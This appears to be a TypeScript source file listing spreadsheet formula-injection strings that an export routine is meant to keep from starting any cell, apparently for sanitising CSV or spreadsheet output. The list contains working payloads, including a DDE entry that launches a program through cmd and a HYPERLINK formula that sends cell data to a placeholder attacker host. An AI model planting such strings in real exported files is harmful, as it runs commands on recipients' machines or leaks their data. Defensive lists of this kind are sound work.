/** Texts that have been used to make spreadsheets run something: no export may begin a cell with one. */
export const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"ver")',
  '＝1+1',
  '|calc',
  '%0A=1+1',
] as const;
